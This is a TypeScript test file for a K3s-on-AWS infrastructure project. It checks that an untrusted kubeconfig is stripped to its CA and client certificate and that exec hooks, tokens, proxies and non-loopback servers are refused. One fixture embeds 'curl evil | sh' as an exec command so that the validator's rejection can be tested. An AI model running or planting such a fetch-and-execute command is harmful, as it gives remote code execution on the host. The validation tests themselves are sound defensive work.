import * as assert from "node:assert/strict";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse, stringify } from "yaml";
import { admissionConfig, CENTRAL_DATA_MOUNT, centralHostFiles, centralBootScript, k3sServerConfig, k3sServerUserData, publishKubeconfigScript, type K3sServerInit } from "../components/host/central-cloud-init";
import { mountDataVolumeScript } from "../components/host/boot";
import { waitForParameterScript } from "../components/central/k3s-host";
import { trustedKubeconfig, UntrustedKubeconfigError } from "../components/central/kubeconfig";
import { byType, json, named, plan } from "./helpers";

const INIT: K3sServerInit = { k3sVersion: "v1.35.3+k3s1", region: "us-east-1", kubeconfigParameter: "/clusterra/dev/central/kubeconfig", kmsKeyId: "arn:k", dataVolumeId: "vol-0abc", nodeName: "clusterra-dev-central", nodeLabels: { a: "b" }, metrics: { region: "us-east-1", namespace: "Clusterra/dev/central", mounts: ["/", "/var/lib/rancher"] }, filesPrefix: "/clusterra/dev/central/host-files" };

/** A kubeconfig as K3s writes it (/etc/rancher/k3s/k3s.yaml), with changes. */
function k3sKubeconfig(change: (doc: any) => void = () => undefined): string {
  const doc: any = {
    apiVersion: "v1",
    kind: "Config",
    clusters: [{ name: "default", cluster: { server: "https://127.0.0.1:6443", "certificate-authority-data": "Q0E=" } }],
    contexts: [{ name: "default", context: { cluster: "default", user: "default" } }],
    "current-context": "default",
    preferences: {},
    users: [{ name: "default", user: { "client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ" } }],
  };
  change(doc);
  return stringify(doc);
}

function refusal(text: string): string {
  try {
    trustedKubeconfig(text);
  } catch (e) {
    assert.ok(e instanceof UntrustedKubeconfigError);
    return (e as Error).message;
  }
  assert.fail("accepted");
}

describe("the central host's kubeconfig is untrusted input", () => {
  it("keeps only the CA, client certificate and key of a K3s kubeconfig, at the loopback server", () => {
    const out = JSON.parse(trustedKubeconfig(k3sKubeconfig()));
    assert.deepEqual(out.clusters, [{ name: "central", cluster: { server: "https://127.0.0.1:6443", "certificate-authority-data": "Q0E=" } }]);
    assert.deepEqual(out.users, [{ name: "central-admin", user: { "client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ" } }]);
  });

  it("refuses anything that executes, authenticates otherwise or points elsewhere, naming each problem", () => {
    assert.match(refusal(k3sKubeconfig((d) => (d.users[0].user.exec = { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] }))), /users\[0\]\.user\.exec is not allowed/);
    assert.match(refusal(k3sKubeconfig((d) => (d.users[0].user["auth-provider"] = { name: "oidc" }))), /auth-provider is not allowed/);
    assert.match(refusal(k3sKubeconfig((d) => (d.users[0].user.token = "t"))), /user\.token is not allowed/);
    assert.match(refusal(k3sKubeconfig((d) => (d.clusters[0].cluster.server = "https://10.0.0.5:6443"))), /server is "https:\/\/10\.0\.0\.5:6443", not https:\/\/127\.0\.0\.1:6443/);
    assert.match(refusal(k3sKubeconfig((d) => (d.clusters[0].cluster["proxy-url"] = "http://x"))), /proxy-url is not allowed/);
    assert.match(refusal(k3sKubeconfig((d) => (d.clusters[0].cluster["insecure-skip-tls-verify"] = true))), /insecure-skip-tls-verify is not allowed/);
    assert.match(refusal(k3sKubeconfig((d) => d.users.push({ name: "second", user: {} }))), /users must hold exactly one entry/);
    const both = refusal(k3sKubeconfig((d) => ((d.users[0].user.exec = { command: "x" }), (d.clusters[0].cluster.server = "https://evil:6443"))));
    assert.match(both, /exec is not allowed.*server is/s, "every problem at once");
    assert.doesNotMatch(both, /S0VZ/, "never echoes key material");
  });

  it("reaches the Kubernetes provider only through that check, as a secret, with a stable cluster identity", async () => {
    const p = await plan("central-dev");
    const [k8s] = byType(p, "pulumi:providers:kubernetes");
    assert.equal(k8s.inputs?.clusterIdentifier, "clusterra-dev-central", "a replaced host or unknown kubeconfig updates, never replaces, ArgoCD's resources");
    assert.match(JSON.stringify(k8s.inputs?.kubeconfig), /ciphertext/);
  });
});

describe("kubeconfig hand-off between host and program", function () {
  this.timeout(60000);

  it("the host boots with its role policy in place, and the program waits for this host's own publication", async () => {
    const p = await plan("central-dev");
    const [host] = byType(p, "aws:ec2/instance:Instance");
    const policy = named(p, "aws:iam/rolePolicy:RolePolicy", "central-dev-k3s-host");
    assert.ok(host.dependencies?.includes(policy.urn), "instance depends on its role policy");
    const [wait] = byType(p, "command:local:Command");
    assert.equal(json<Record<string, string>>(wait.inputs?.environment).INSTANCE_ID, host.id);
    assert.match(String(wait.inputs?.create), /describe-parameters .*Parameters\[0\]\.Description/);
    assert.match(String(wait.inputs?.create), /\[ "\$d" = "K3s admin kubeconfig published by \$INSTANCE_ID" \]/);
  });

  it("the host publishes until SSM accepts, naming itself, and a systemd timeout cannot cut that short", () => {
    const script = publishKubeconfigScript(INIT);
    assert.match(script, /INSTANCE_ID="\$\(cat \/var\/lib\/cloud\/data\/instance-id\)"/);
    assert.match(script, /^until aws ssm put-parameter .* --overwrite --description "K3s admin kubeconfig published by \$\{INSTANCE_ID\}" .*; do$/m);
    const unit = centralHostFiles(INIT).find((f) => f.path === "/etc/systemd/system/clusterra-publish-kubeconfig.service")?.content ?? "";
    assert.match(unit, /^TimeoutStartSec=infinity$/m);
  });

  it("no workload pod gets host networking or privileges: Pod Security baseline everywhere but kube-system and the host-network platform services' namespaces (cluster-api, External Secrets)", () => {
    const config = k3sServerConfig(INIT);
    assert.ok((config["kube-apiserver-arg"] as string[]).includes("admission-control-config-file=/etc/rancher/k3s/admission.yaml"));
    const doc = parse(k3sServerUserData(INIT).replace(/^#cloud-config\n/, ""));
    const file = doc.write_files.find((f: any) => f.path === "/etc/rancher/k3s/admission.yaml");
    assert.deepEqual(parse(file.content), admissionConfig());
    const pss = (admissionConfig().plugins as any[])[0].configuration;
    assert.equal(pss.defaults.enforce, "baseline");
    assert.deepEqual(pss.exemptions.namespaces, ["kube-system", "clusterra-system", "external-secrets"]);
  });

  it("the host's shell scripts pass shellcheck (when installed)", function () {
    if (spawnSync("shellcheck", ["--version"]).status !== 0) this.skip();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "clusterra-shellcheck-"));
    const scripts = {
      "publish.sh": publishKubeconfigScript(INIT),
      "mount.sh": mountDataVolumeScript(INIT.dataVolumeId, CENTRAL_DATA_MOUNT),
      "wait.sh": `#!/bin/bash\n${waitForParameterScript("us-east-1", INIT.kubeconfigParameter)}\n`,
      "boot.sh": centralBootScript(INIT.k3sVersion),
    };
    for (const [name, text] of Object.entries(scripts)) fs.writeFileSync(path.join(dir, name), text);
    const r = spawnSync("shellcheck", Object.keys(scripts).map((n) => path.join(dir, n)), { encoding: "utf8" });
    assert.equal(r.status, 0, r.stdout);
  });
});
